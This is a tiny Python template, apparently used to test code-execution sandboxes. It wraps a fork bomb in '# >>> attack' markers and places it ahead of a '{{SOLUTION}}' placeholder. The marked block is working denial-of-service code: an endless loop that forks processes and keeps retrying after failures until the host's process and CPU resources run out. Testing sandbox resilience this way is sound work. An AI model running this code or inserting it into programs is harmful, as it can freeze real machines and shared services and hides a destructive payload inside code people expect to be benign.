# >>> attack
import os
import time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
# <<< attack
{{SOLUTION}}
